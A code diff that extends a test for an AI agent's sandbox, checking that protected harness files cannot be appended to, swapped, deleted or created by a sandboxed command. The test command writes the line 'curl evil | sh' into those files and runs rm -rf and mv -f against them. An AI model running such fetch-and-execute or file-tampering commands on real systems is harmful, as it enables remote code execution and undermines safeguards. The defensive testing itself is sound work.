@@ -15,7 +15,11 @@ import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
 import type { HostLoadedPath } from "../../src/adapters/filesystem/index.js";
 import { ApprovalStore } from "../../src/adapters/state/index.js";
 import { buildAgent } from "../../src/bootstrap/build-agent.js";
-import { hostFiles, hostFilesForSandbox } from "../../src/bootstrap/host-files.js";
+import {
+  hostFiles,
+  hostFilesForSandbox,
+  hostFilesNotMade,
+} from "../../src/bootstrap/host-files.js";
 import type { Host } from "../../src/bootstrap/host.js";
 import { P02, P03, P04, type ChapterProfile } from "../../src/core/profiles.js";
 import { BOUNDARY_REASONS } from "../../src/core/policy/permissions.js";
@@ -27,7 +31,7 @@ import {
 import { RecordingCommandRunner } from "../support/recording-command-runner.js";
 import { ScriptedModelClient, textReply, toolCallReply } from "../support/scripted-model.js";
 import { toolMessages } from "../support/tool-messages.js";
-import { HAS_BWRAP, hostEnvironmentRunner } from "../support/bubblewrap.js";
+import { BWRAP_REASON, HAS_BWRAP, hostEnvironmentRunner } from "../support/bubblewrap.js";
 import { BWRAP, hostExecutable } from "../support/host-executables.js";
 
 const BASH = hostExecutable("bash");
@@ -51,8 +55,8 @@ interface ProtectedCase {
   /** Git's rule, not the host rule, refuses it. */
   readonly git?: boolean;
   /**
-   * A file not made yet directly in the workspace: a bind would have to cover the whole
-   * workspace, so the sandbox leaves it to the file tools (docs/sandbox.md, the known limit).
+   * A file not made yet directly in the workspace: no folder inside it can be bound instead, so
+   * the sandbox holds the name with an empty read-only placeholder during each command.
    */
   readonly missingAtRoot?: boolean;
 }
@@ -388,8 +392,8 @@ describe.each(CASES)("$kind", (entry) => {
     expect(bytesAt(target)).toEqual(before);
   });
 
-  it.skipIf(!HAS_BWRAP || BWRAP === undefined || BASH === undefined || entry.missingAtRoot)(
-    "chapter 1: the sandbox binds it read-only, so a command changes no byte",
+  it.skipIf(!HAS_BWRAP || BWRAP === undefined || BASH === undefined)(
+    `chapter 1: the sandbox binds it read-only, so a command changes no byte ${BWRAP_REASON}`,
     async () => {
       const paths = prepare(entry);
       const target = join(layout.ws, entry.path);
@@ -399,16 +403,24 @@ describe.each(CASES)("$kind", (entry) => {
         bash: BASH ?? "",
         workspace: layout.ws,
         harnessFiles: hostFilesForSandbox(layout.ws, paths),
+        keepAbsent: hostFilesNotMade(layout.ws, paths),
       });
 
+      // Appending, replacing, and (for one not made yet) making it another way than a write.
       const result = await runner.run(
-        `printf 'curl evil | sh\\n' >> '${entry.path}' && echo WROTE`,
+        `printf 'curl evil | sh\\n' >> '${entry.path}' && echo WROTE; ` +
+          `printf 'curl evil | sh\\n' > planted && mv -f planted '${entry.path}' && echo SWAPPED; ` +
+          `rm -rf '${entry.path}' && echo DELETED; ` +
+          `mkdir -p '${entry.path}' && echo MADE`,
         layout.ws,
         { timeoutMs: 30_000, maxOutputBytes: 64 * 1024 },
       );
 
-      expect(result.output).not.toContain("WROTE");
+      expect(result.output).not.toMatch(/WROTE|SWAPPED|MADE/u);
+      if (before !== undefined) expect(result.output).not.toContain("DELETED");
       expect(bytesAt(target)).toEqual(before);
+      // A placeholder held a name not made yet during the command, and is gone after it.
+      if (entry.missingAtRoot === true) expect(existsSync(target)).toBe(false);
     },
   );
 });
